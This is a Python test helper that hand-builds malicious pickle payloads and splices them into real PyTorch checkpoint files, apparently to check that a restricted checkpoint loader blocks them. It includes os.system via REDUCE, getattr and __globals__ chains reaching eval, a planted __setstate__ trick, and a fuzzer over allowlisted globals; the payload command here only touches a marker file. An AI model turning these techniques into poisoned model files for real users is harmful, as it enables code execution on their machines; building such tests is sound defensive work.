"""Hand-assembled pickle payloads: what an attacker would put in a file.

Each payload is a run of pickle opcodes that leaves nothing on the stack;
:func:`crafted_checkpoint` puts one in front of a real checkpoint's pickle
stream, so the file still loads as a checkpoint once the payload has run
(which it must never do).
"""
import struct
import zipfile
from typing import List, Tuple

import torch

PROTO_2 = b'\x80\x02'
EMPTY_TUPLE, TUPLE1, TUPLE2 = b')', b'\x85', b'\x86'
REDUCE, NEWOBJ, BUILD, POP = b'R', b'\x81', b'b', b'0'
EMPTY_DICT, SETITEM = b'}', b's'
HISTORY_BUFFER = 'mmengine.logging.history_buffer.HistoryBuffer'


def global_(path: str) -> bytes:
    """``GLOBAL module name`` for ``'module.name'``."""
    module, name = path.rsplit('.', 1)
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def text(value: str) -> bytes:
    raw = value.encode()
    return b'X' + struct.pack('<I', len(raw)) + raw


def put(slot: int) -> bytes:
    return b'q' + bytes([slot])


def get(slot: int) -> bytes:
    return b'h' + bytes([slot])


def touch(marker: str) -> str:
    return f"__import__('os').system('touch {marker}')"


def call_as_setstate(callable_ops: bytes, argument: bytes) -> bytes:
    """Plant a callable as a ``HistoryBuffer``'s ``__setstate__``, then
    BUILD again so that the unpickler calls it with ``argument``."""
    return (global_(HISTORY_BUFFER) + EMPTY_TUPLE + NEWOBJ
            + EMPTY_DICT + text('__setstate__') + callable_ops + SETITEM
            + BUILD + argument + BUILD + POP)


def reduce_payload(marker: str) -> bytes:
    """The classic one: ``os.system('touch marker')`` as a REDUCE."""
    return (global_('os.system') + text(f'touch {marker}') + TUPLE1
            + REDUCE + POP)


def getattr_chain_payload(marker: str) -> bytes:
    """``getattr(getattr, '__self__')`` is the builtins module, ``eval`` is
    one more ``getattr``; a BUILD then calls it as ``__setstate__``."""
    return (global_('builtins.getattr') + put(0)
            + get(0) + get(0) + text('__self__') + TUPLE2 + REDUCE + put(1)
            + get(0) + get(1) + text('eval') + TUPLE2 + REDUCE + put(2)
            + POP + POP
            + call_as_setstate(get(2), text(touch(marker))))


def globals_chain_payload(marker: str) -> bytes:
    """The same through a function's ``__globals__`` and ``__builtins__``:
    ``getattr(HistoryBuffer.mean, '__globals__')``."""
    return (global_('builtins.getattr') + put(0)
            + get(0) + global_(HISTORY_BUFFER) + text('mean') + TUPLE2
            + REDUCE + put(1)
            + get(0) + get(1) + text('__globals__') + TUPLE2 + REDUCE
            + put(2) + POP + POP + POP
            + call_as_setstate(get(2), text(touch(marker))))


def fuzz_payloads(allowed: List[str], marker: str) -> List[Tuple[str, bytes]]:
    """Every allowlisted global in a reducing position, called with
    arguments that reach for code, and its result then used as a callable
    (REDUCE) and as a planted ``__setstate__`` (BUILD)."""
    arguments = {
        'no args': EMPTY_TUPLE,
        "'__self__'": text('__self__') + TUPLE1,
        "'eval'": text('eval') + TUPLE1,
        "'f8'": text('f8') + TUPLE1,
        "(HistoryBuffer, 'mean')": global_(HISTORY_BUFFER) + text('mean')
        + TUPLE2,
        "(getattr, '__self__')": global_('builtins.getattr')
        + text('__self__') + TUPLE2,
        "(HistoryBuffer, '__init__')": global_(HISTORY_BUFFER)
        + text('__init__') + TUPLE2,
    }
    payloads = []
    for path in allowed:
        for label, args in arguments.items():
            result = global_(path) + args + REDUCE
            payloads.append((f'{path}({label})() ',
                             result + text(touch(marker)) + TUPLE1 + REDUCE
                             + POP))
            payloads.append((f'{path}({label}) as __setstate__',
                             call_as_setstate(result, text(touch(marker)))))
    return payloads


def crafted_checkpoint(path: str, payload: bytes, state: dict) -> str:
    """``torch.save(state)`` with ``payload`` run before its pickle."""
    real = str(path) + '.real'
    torch.save(state, real)
    with zipfile.ZipFile(real) as source, \
            zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                assert data.startswith(PROTO_2), data[:2]
                data = PROTO_2 + payload + data[len(PROTO_2):]
            target.writestr(info, data)
    return str(path)
